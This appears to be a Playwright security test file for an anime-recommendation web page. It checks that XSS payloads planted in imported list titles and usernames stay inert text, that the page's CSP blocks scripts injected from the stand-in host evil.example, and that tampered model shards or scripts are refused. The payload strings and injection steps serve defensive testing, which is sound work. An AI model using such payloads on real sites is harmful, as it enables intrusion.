"""Security in Chromium, under the policy dist/ ships (meta tag + the dev server's headers):
hostile titles and usernames from a MyAnimeList export and from AniList stay text, links are
built from numeric ids only, a normal run reports no CSP violation, injected scripts are blocked,
and a damaged model shard stops the page instead of ranking. One page load serves most tests;
they run in file order (the violation check comes before the injections)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page

from .conftest import (
    ANILIST_ANSWERS,
    ANILIST_API,
    BOOT_TIMEOUT_MS,
    RUN_TIMEOUT_MS,
    Session,
    open_site,
)
from .test_site import ask_anilist, upload

pytestmark = pytest.mark.browser

# Collects CSP violations from the first byte on; the page's own code never reads it.
RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => window.__csp.push(
  { directive: e.effectiveDirective, blocked: e.blockedURI }));
"""
PAYLOADS = (
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    "<script>window.__pwned=2;alert(2)</script>",
    "javascript:window.__pwned=3;alert(3)",
    '<a href="javascript:window.__pwned=4">click</a>',
)
PYTHON_SETTLED = """() => document.body.classList.contains("ready")
  || document.querySelector(".py-error")
  || document.querySelector("script[type=py]")?.xworker?.ready.then(() => true, () => true)"""
KNOWN_IDS = (1, 5114, 9253, 20, 30)  # Cowboy Bebop, FMA:B, Steins;Gate, Naruto, Evangelion
LINK = re.compile(r"https://(myanimelist\.net|anilist\.co)/anime/\d+")


def hostile_export(path: Path) -> Path:
    """A MyAnimeList export whose titles, tags and username are the payloads (CDATA, as MAL
    writes them), each scored 10 so the page's list strip shows all of them."""
    anime = "".join(
        f"<anime><series_animedb_id>{mal_id}</series_animedb_id>"
        f"<series_title><![CDATA[{PAYLOADS[i % len(PAYLOADS)]}]]></series_title>"
        f"<my_score>10</my_score><my_status>Completed</my_status>"
        f"<my_tags><![CDATA[{PAYLOADS[0]}]]></my_tags></anime>"
        for i, mal_id in enumerate(KNOWN_IDS)
    )
    path.write_text(
        f"<?xml version='1.0'?><myanimelist><myinfo><user_name><![CDATA[{PAYLOADS[1]}]]>"
        f"</user_name><user_export_type>1</user_export_type></myinfo>{anime}</myanimelist>"
    )
    return path


def hostile_anilist_body() -> dict:
    """The recorded AniList list with every title and the user's name swapped for a payload."""
    body = json.loads(json.dumps(ANILIST_ANSWERS["evanalxen"][1]))
    collection = body["data"]["MediaListCollection"]
    collection["user"]["name"] = PAYLOADS[0]
    entries = [e for lst in collection["lists"] for e in lst["entries"]]
    for i, entry in enumerate(entries):
        entry["media"]["title"] = {"romaji": PAYLOADS[i % len(PAYLOADS)], "english": PAYLOADS[2]}
    return body


@pytest.fixture(scope="module")
def app(browser, site_url) -> Session:
    session = open_site(browser, site_url, init_script=RECORD_VIOLATIONS)
    session.dialogs = []
    session.page.on("dialog", lambda d: (session.dialogs.append(d.message), d.dismiss()))
    yield session
    session.page.context.close()


def assert_inert(app: Session, where: str) -> None:
    """Nothing ran, every payload reads literally, and links are built from numeric ids."""
    page = app.page
    assert page.evaluate("() => window.__pwned") is None
    assert app.dialogs == []
    assert page.is_hidden("#error"), page.inner_text("#error")
    text = page.inner_text(where)
    assert [p for p in PAYLOADS if p in text], text[:500]
    assert page.query_selector("#results img[src='x'], #results script, #results [onerror]") is None
    hrefs = page.eval_on_selector_all("a[href]", "links => links.map((a) => a.href)")
    assert hrefs and all(LINK.fullmatch(h) for h in hrefs), [h for h in hrefs if not LINK.match(h)]


def test_export_titles_and_username_are_text(app: Session, tmp_path: Path) -> None:
    upload(app.page, hostile_export(tmp_path / "hostile.xml"))
    assert_inert(app, "#your-list")
    assert PAYLOADS[1] in app.page.inner_text("#summary")  # the export's user name


def test_anilist_titles_and_username_are_text(app: Session) -> None:
    body = hostile_anilist_body()
    headers = {"Access-Control-Allow-Origin": "*"}
    handler = lambda route: route.fulfill(json=body, headers=headers)  # noqa: E731
    app.page.route(ANILIST_API.rstrip("/"), handler)
    try:
        ask_anilist(app.page, "evanalxen")
    finally:
        app.page.unroute(ANILIST_API.rstrip("/"), handler)
    assert_inert(app, "#your-list")
    assert PAYLOADS[0] in app.page.inner_text("#summary")


def test_normal_use_reports_no_csp_violation(app: Session) -> None:
    """Boot (Pyodide, PyScript, TF.js on WebGL), the uploads above and an AniList run of its
    own whose covers arrive (after the list is drawn: waited for, not looked at once)."""
    ask_anilist(app.page, "evanalxen")
    app.page.wait_for_selector("#your-list img", timeout=RUN_TIMEOUT_MS)
    assert app.page.evaluate("() => window.__csp") == []


def test_injected_scripts_are_blocked(app: Session) -> None:
    page = app.page
    failed, answered = {}, []
    page.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure))
    page.on("response", lambda r: answered.append(r.url))
    page.evaluate("""() => {
        const external = document.createElement("script");
        external.src = "https://evil.example/x.js";
        const inline = document.createElement("script");
        inline.textContent = "window.__pwned = 'inline'";
        document.body.append(external, inline);
        document.body.insertAdjacentHTML("beforeend",
          '<img src="https://evil.example/p.gif" onerror="window.__pwned = 1">');
    }""")
    with pytest.raises(PlaywrightError):
        page.add_script_tag(url="https://evil.example/y.js")
    page.wait_for_function("() => window.__csp.length >= 4")
    blocked = {(v["directive"], v["blocked"]) for v in page.evaluate("() => window.__csp")}
    assert ("script-src-elem", "https://evil.example/x.js") in blocked
    assert ("script-src-elem", "https://evil.example/y.js") in blocked
    assert ("script-src-elem", "inline") in blocked
    assert ("img-src", "https://evil.example/p.gif") in blocked
    assert page.evaluate("() => window.__pwned") is None
    evil = {u for u in app.requests if "evil.example" in u}  # Chromium reports, then blocks
    assert evil and all(failed.get(u) == "csp" for u in evil), failed
    assert not [u for u in answered if "evil.example" in u]


@contextmanager
def failed_boot(browser, site_url: str, pattern: str, handler) -> Iterator[Page]:
    """The site booted with requests matching `pattern` answered by `handler` (a tampered file):
    waits until the page gives up, checks it offers nothing, and yields it for the specifics."""
    context = browser.new_context()
    try:
        context.route(pattern, handler)
        page = context.new_page()
        page.goto(site_url)
        page.wait_for_selector("body.failed", timeout=BOOT_TIMEOUT_MS)
        assert page.is_disabled("#file-form button[type=submit]")
        yield page
    finally:
        context.close()


def test_damaged_shard_stops_the_page(browser, site_url: str, models_dir: Path) -> None:
    """A shard with one flipped byte: the loader's sha256 check fails, the page says so and
    offers no recommendations (never ranks with wrong weights)."""
    topology = json.loads((models_dir / "model.json").read_text())
    shard = topology["weightsManifest"][0]["paths"][0]  # the model's, not the map's atlas.bin
    data = bytearray((models_dir / shard).read_bytes())
    data[len(data) // 2] ^= 0xFF
    flipped = lambda route: route.fulfill(body=bytes(data))  # noqa: E731
    with failed_boot(browser, site_url, f"**/models/default/{shard}", flipped) as page:
        assert "damaged" in page.inner_text("#error")
        assert page.evaluate("() => animerec.model") is None


def test_tampered_tfjs_script_is_refused(browser, site_url: str) -> None:
    """TF.js is added by the loader at run time, with the SRI value the build computed: a
    changed byte means the browser refuses to run it and the page says it could not load."""

    def tampered(route) -> None:
        body = route.fetch().body()
        route.fulfill(body=body + b"\n;window.__pwned = 1;", content_type="text/javascript")

    with failed_boot(browser, site_url, "**/vendor/tfjs/tf.es2017.min.js", tampered) as page:
        assert "tf.es2017.min.js" in page.inner_text("#error")
        assert page.evaluate("() => window.__pwned") is None


def test_tampered_imported_module_is_refused(browser, site_url: str) -> None:
    """The modules the page's scripts import carry SRI too (their modulepreload links,
    tools/modulepreload.py): a changed ui.js is refused, not run, and the page never offers
    recommendations."""

    def tampered(route) -> None:
        body = route.fetch().body()
        route.fulfill(body=body + b"\n;window.__pwned = 1;", content_type="text/javascript")

    context = browser.new_context()
    try:
        context.route("**/js/ui.js", tampered)
        page = context.new_page()
        with page.expect_console_message(lambda m: "integrity" in m.text, timeout=BOOT_TIMEOUT_MS):
            page.goto(site_url)
        # Python's page script has its go: it boots (a loader ran after all) or stops, as the
        # loader's globals are missing (PyScript then shows a .py-error on the main thread; in
        # its worker, the worker's `ready` settles)
        page.wait_for_function(PYTHON_SETTLED, timeout=BOOT_TIMEOUT_MS)
        assert page.evaluate("() => window.__pwned") is None
        assert page.evaluate("() => document.body.classList.contains('ready')") is False
        assert page.is_disabled("#file-form button[type=submit]")
    finally:
        context.close()
